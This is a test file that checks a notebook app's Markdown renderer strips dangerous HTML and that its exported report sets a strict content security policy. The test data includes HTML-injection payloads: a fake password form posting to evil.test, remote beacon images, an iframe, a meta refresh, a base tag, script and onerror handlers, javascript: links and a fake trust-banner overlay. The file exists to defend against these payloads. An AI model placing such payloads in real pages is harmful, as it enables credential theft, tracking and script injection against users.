import { JSDOM } from 'jsdom';
import { describe, expect, test } from 'vitest';
import { markdownRenderer } from '../../src/notebook/index.ts';
import { renderHtmlReport } from '../../src/notebook/html-report.ts';

const dom = new JSDOM('<!doctype html><body></body>', { url: 'http://127.0.0.1:4173/' });
const render = markdownRenderer(dom.window as unknown as Window);

/** Issue 14.4: Markdown cells render prose, and nothing that can phish, overlay the page or send a request. */
describe('Markdown is sanitised to prose', () => {
  test('prose keeps its headings, emphasis, lists, tables, code, links, quotes and task lists', () => {
    const html = render([
      '# Title', '', 'Some *emphasis*, **strong**, `code`, ~~gone~~ and a [link](https://example.com/docs "Docs").', '',
      '- one', '- [x] done', '- [ ] to do', '', '| a | b |', '|---|--:|', '| 1 | 2 |', '', '> quoted', '', '```sql', 'SELECT 1', '```', '',
      '<details><summary>More</summary>Hidden <sup>1</sup> <kbd>K</kbd></details>',
    ].join('\n'));
    expect(html).toContain('<h1>Title</h1>');
    expect(html).toContain('<em>emphasis</em>, <strong>strong</strong>, <code>code</code>, <del>gone</del>');
    expect(html).toContain('<a href="https://example.com/docs" title="Docs">link</a>');
    expect(html).toContain('<li>☑ done</li>');
    expect(html).toContain('<li>☐ to do</li>');
    expect(html).toMatch(/<table>\s*<thead>\s*<tr>\s*<th>a<\/th>\s*<th align="right">b<\/th>/);
    expect(html).toContain('<blockquote>');
    expect(html).toContain('<pre><code>SELECT 1\n</code></pre>');
    expect(html).toContain('<details><summary>More</summary>Hidden <sup>1</sup> <kbd>K</kbd></details>');
  });

  const attacks: [string, string, RegExp][] = [
    ['a form asking for a password', '<form action="http://evil.test/steal"><input type="password" name="p"><button>Sign in</button></form>', /<form|<input|<button|evil/],
    ['a style tag', '<style>body { display: none }</style>Text', /<style|display/],
    ['an overlay covering the trust banner', '<div style="position:fixed;inset:0;z-index:99;background:white">Trusted ✓</div>', /style=|position/],
    ['a remote image (a beacon)', '![x](http://evil.test/beacon.gif) <img src="//evil.test/b.gif"> <img src="/\t/evil.test/c.gif">', /evil|<img/],
    ['a srcset beacon', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="http://evil.test/s.gif 2x">', /srcset|evil/],
    ['an iframe', '<iframe src="http://evil.test/"></iframe>', /<iframe|evil/],
    ['an object and an embed', '<object data="http://evil.test/o"></object><embed src="http://evil.test/e">', /<object|<embed|evil/],
    ['a video poster and audio', '<video poster="http://evil.test/p.png"></video><audio src="http://evil.test/a.mp3"></audio>', /<video|<audio|evil/],
    ['an SVG image', '<svg><image href="http://evil.test/i.png"/></svg>', /<svg|<image|evil/],
    ['a link prefetch and a meta refresh', '<link rel="prefetch" href="http://evil.test/l"><meta http-equiv="refresh" content="0;url=http://evil.test/m">', /<link|<meta|evil/],
    ['a base tag', '<base href="http://evil.test/">', /<base|evil/],
    ['script, handlers and javascript: links', '<script>alert(1)</script><img src=x onerror=alert(2)><a href="javascript:alert(3)">x</a>', /<script|onerror|javascript/],
    ['classes and ids that could borrow the app\'s styles', '<p class="trust" id="trust-banner">fake</p>', /class=|id=/],
    ['a ping on a link', '<a href="https://example.com" ping="http://evil.test/ping">x</a>', /ping|evil/],
  ];
  for (const [label, markdown, forbidden] of attacks) {
    test(`drops ${label}`, () => {
      expect(render(markdown)).not.toMatch(forbidden);
    });
  }

  test('images stay when they come from data:, blob: or the app itself', () => {
    expect(render('![dot](data:image/png;base64,iVBORw0KGgo=)')).toContain('<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">');
    expect(render('<img src="blob:http://127.0.0.1:4173/1234" alt="b">')).toContain('src="blob:http://127.0.0.1:4173/1234"');
    expect(render('![logo](samples/logo.png)')).toContain('<img src="samples/logo.png" alt="logo">');
    expect(render('![remote](https://evil.test/x.png)')).toBe('<p>remote</p>\n');
  });
});

describe('the exported report', () => {
  test('forbids every request, form and base in its content security policy', () => {
    const html = renderHtmlReport({ title: 't', cells: [], data: [], generatedAt: new Date(0) });
    const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html)?.[1];
    expect(policy?.split('; ')).toEqual(["default-src 'none'", "style-src 'unsafe-inline'", 'img-src data:', "form-action 'none'", "base-uri 'none'"]);
  });
});
